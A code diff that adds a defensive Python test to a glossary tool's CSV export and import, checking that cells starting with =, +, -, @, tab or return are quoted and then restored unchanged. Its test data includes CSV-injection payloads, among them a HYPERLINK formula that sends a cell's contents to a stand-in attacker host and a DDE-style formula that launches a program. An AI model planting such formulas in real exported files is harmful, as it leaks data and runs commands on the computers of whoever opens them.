@@ -104,3 +104,48 @@ def test_import_validates_against_the_schema(pseudo_project: Path, tilmech, tmp_
     assert result.code == 2 and result.err.startswith("error: bad.csv:")
     assert "terms[0].pos" in result.err and "terms[0].translations.fr" in result.err
     assert not (pseudo_project / "glossary" / "imported.yaml").exists()
+
+
+HOSTILE = ("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd' /C calc'!A0", "-2+3", "@SUM(1+1)",
+           "'=quoted already", "''-twice", "it's fine", "'plain quote", "a\rb")
+
+
+def test_csv_cells_never_start_a_formula_and_come_back_unchanged(pseudo_project: Path, tilmech, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
+    """OWASP's advice against CSV injection: a ' before =, +, -, @, tab and CR; our import takes it off."""
+    import csv
+    import io
+
+    from tilmech.glossary.model import Rendering, Term
+
+    def term(i: int, text: str) -> Term:
+        return Term(f"t{i}", text, ("x", text), False, {"ru": Rendering(text, (), True, text)}, {"ru": (text,)},
+                    True, text, "", "noun", "approved")
+
+    terms = [term(i, text) for i, text in enumerate(HOSTILE)]
+    for whitespace in ("\tTab", "\rReturn"):  # surrounding white space is not kept (cells are stripped)
+        terms.append(dataclasses.replace(term(len(terms), whitespace), variants=(whitespace.strip(),)))
+    written = write_csv(terms, ["ru"])
+    rows = list(csv.reader(io.StringIO(written, newline="")))[1:]
+    assert len(rows) == len(terms)
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+    assert rows[0][1] == "'" + HOSTILE[0] and rows[4][1] == "''=quoted already" and rows[6][1] == "it's fine"
+    back = _bare(read_csv(written, "x.csv"))
+    assert back[:len(HOSTILE)] == _bare(terms)[:len(HOSTILE)]
+    assert [(t.en, t.note, t.translations["ru"].term) for t in back[len(HOSTILE):]] == [
+        ("Tab", "Tab", "Tab"), ("Return", "Return", "Return")]
+
+    # through the commands: a hostile term exported, then the export imported back unchanged
+    (pseudo_project / "glossary" / "hostile.yaml").write_text(
+        "terms:\n  - id: formula\n    en: \"=1+2\"\n    pos: noun\n    translations:\n      ru: \"-Формула\"\n",
+        encoding="utf-8")
+    exported = tilmech("--project", pseudo_project, "glossary", "export", "--format", "csv")
+    assert exported.code == 0, exported
+    assert "\nformula,'=1+2," in exported.out and ",'-Формула," in exported.out
+    (tmp_path / "back.csv").write_text(exported.out, encoding="utf-8")
+    again = tilmech("--project", pseudo_project, "glossary", "import", tmp_path / "back.csv")
+    assert again.code == 0, again
+    assert again.out.splitlines()[:2] == ["added 0", "changed 0"]
+    term = load_glossary(pseudo_project / "glossary", pseudo_project).get("formula")
+    assert term is not None and (term.en, term.translations["ru"].term) == ("=1+2", "-Формула")
